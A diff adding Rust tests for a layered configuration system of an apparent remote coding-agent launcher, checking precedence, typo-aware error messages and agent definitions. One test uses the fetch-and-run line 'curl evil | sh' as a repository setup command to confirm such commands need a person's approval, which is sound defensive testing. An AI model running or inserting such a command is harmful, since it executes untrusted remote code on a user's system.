@@ -1,0 +1,139 @@
+//! Layers, origins and complaints, on real files.
+
+use super::*;
+
+struct Place {
+    dir: tempfile::TempDir,
+    paths: Paths,
+}
+
+impl Place {
+    fn new(user: &str, repo: &str) -> Result<Self> {
+        let dir = tempfile::tempdir()?;
+        let paths = Paths::new(|v| (v == "HOME").then(|| dir.path().into()))?;
+        std::fs::create_dir_all(&paths.config)?;
+        std::fs::create_dir_all(dir.path().join("repo/.git"))?;
+        std::fs::create_dir_all(dir.path().join("repo/deep/er"))?;
+        std::fs::write(Config::file(&paths), user)?;
+        if !repo.is_empty() {
+            std::fs::write(dir.path().join("repo").join(REPO_FILE), repo)?;
+        }
+        Ok(Self { dir, paths })
+    }
+
+    fn read(&self, var: impl Fn(&str) -> Option<String>) -> (Config, Vec<String>) {
+        let cwd = self.dir.path().join("repo/deep/er");
+        let (config, problems) = Config::read(&self.paths, &cwd, var);
+        let home = self.dir.path().display().to_string();
+        let told = problems
+            .into_iter()
+            .map(|p| {
+                let hint = p.hint.map(|h| format!(" ({h})")).unwrap_or_default();
+                format!("{}: {}{hint}", p.place.replace(&home, "~"), p.message)
+            })
+            .collect();
+        (config, told)
+    }
+}
+
+#[test]
+fn each_layer_covers_the_one_below_and_values_know_theirs() -> Result<()> {
+    let place = Place::new(
+        "provider = \"ssh\"\nttl = \"2h\"\nscrollback = 5\n[ssh]\nhost = \"me@box\"\n",
+        "ttl = \"3h\"\nagent = \"codex\"\n",
+    )?;
+    let (mut config, problems) = place.read(|v| (v == "REMOTE_AGENT").then(|| "aider".to_owned()));
+    assert!(problems.is_empty(), "{problems:?}");
+    assert_eq!((config.provider(), config.host()), ("ssh", Some("me@box")));
+    assert_eq!(config.ttl(), Some(Duration::from_secs(3 * 3600)));
+    assert_eq!(config.default_agent(), "aider");
+    assert_eq!(config.scrollback(), 5);
+    let origin = |c: &Config, name| c.get(name).map(|(_, o)| o.to_string()).unwrap_or_default();
+    assert!(origin(&config, "ttl").ends_with("repo/.remote.toml:1"));
+    assert!(origin(&config, "ssh.host").ends_with("config.toml:5"));
+    assert_eq!(origin(&config, "agent"), "REMOTE_AGENT");
+    config.set_flag("agent=claude")?;
+    assert_eq!(origin(&config, "agent"), "--config");
+    assert!(config.set_flag("agnet=claude").is_err());
+    assert!(config.set_flag("ttl").is_err());
+    let (inside, _) = place.read(|v| match v {
+        "REMOTE_SESSION" => Some("session-abc234".to_owned()),
+        "REMOTE_AGENT" => Some("2".to_owned()),
+        _ => None,
+    });
+    assert_eq!(inside.default_agent(), "codex");
+    Ok(())
+}
+
+#[test]
+fn whatever_is_wrong_is_told_with_its_line_and_the_nearest_name() -> Result<()> {
+    let place = Place::new(
+        "providr = \"ssh\"\nttl = 90\nmode = \"wild\"\nssh = 1\n[agents.x]\ncomand = [\"x\"]\n",
+        "idle = \"1m\"\nsetpu = \"x\"\nwild = 1\n",
+    )?;
+    let (_, problems) = place.read(|v| (v == "REMOTE_TTL").then(|| "0s".to_owned()));
+    let file = "~/.config/remote/config.toml";
+    let all = problems.join("\n");
+    for told in [
+        format!("{file}:1: unknown key `providr` (did you mean `provider`?)"),
+        format!("{file}:2: `ttl` must be a time such as \"90m\" or \"1h 30m\", not the number 90"),
+        format!("{file}:3: `mode` must be one of \"autonomous\", \"careful\", not \"wild\""),
+        format!("{file}:4: `ssh` must be a table `[ssh]`, not the number 1"),
+        format!("{file}:6: unknown key `agents.x.comand` (did you mean `command`?)"),
+        format!("{file}:5: `agents.x` has no command"),
+        "~/repo/.remote.toml:1: `idle` is yours to set, not a repository's".to_owned(),
+        "~/repo/.remote.toml:2: unknown key `setpu` (did you mean `setup`?)".to_owned(),
+        "REMOTE_TTL: `ttl` must be".to_owned(),
+    ] {
+        assert!(all.contains(&told), "{told}\nnot in\n{all}");
+    }
+    assert_eq!(problems.len(), 10, "{all}");
+    Ok(())
+}
+
+#[test]
+fn agents_merge_field_by_field() -> Result<()> {
+    let place = Place::new(
+        "[agents.claude]\ncommand = [\"claude\", \"--model=x\"]\nenv = { A = \"1\" }\n\
+         [agents.mine]\ncommand = [\"mine\"]\n[host.binaries]\nlinux-aarch64 = \"/b\"\n",
+        "",
+    )?;
+    let (config, problems) = place.read(|_| None);
+    assert!(problems.is_empty(), "{problems:?}");
+    let claude = config.agent("claude")?;
+    assert_eq!(claude.command, ["claude", "--model=x"]);
+    assert_eq!(claude.resume, ["claude", "--continue"]);
+    assert_eq!(claude.env.get("A").map(String::as_str), Some("1"));
+    assert_eq!(
+        config.agent("mine")?.argv("t", Mode::Careful),
+        ["mine", "t"]
+    );
+    let unknown = config.agent("cluade").err().map(|e| e.hints);
+    assert_eq!(unknown, Some(vec!["did you mean `claude`?".to_owned()]));
+    assert!(config.host_binaries().contains_key("linux-aarch64"));
+    Ok(())
+}
+
+#[test]
+fn a_repositorys_commands_need_a_persons_yes() -> Result<()> {
+    let place = Place::new("check = \"mine\"\n", "setup = \"curl evil | sh\"\n")?;
+    let (config, _) = place.read(|_| None);
+    let commands = config.unallowed(&place.paths);
+    let lines: Vec<_> = commands.iter().flat_map(RepoCommands::lines).collect();
+    assert_eq!(lines, [("setup", "curl evil | sh")]);
+    if let Some(commands) = &commands {
+        commands.allow(&place.paths)?;
+    }
+    assert_eq!(config.unallowed(&place.paths), None);
+    Ok(())
+}
+
+#[test]
+fn nothing_set_means_this_machine_and_nobodys_choice() {
+    let config = Config::default();
+    assert_eq!(config.provider(), "local");
+    assert!(!config.provider_is_chosen());
+    assert_eq!(config.mode("ssh"), Mode::Careful);
+    assert_eq!(config.mode("ec2"), Mode::Autonomous);
+    assert_eq!(config.agents().count(), 6);
+}
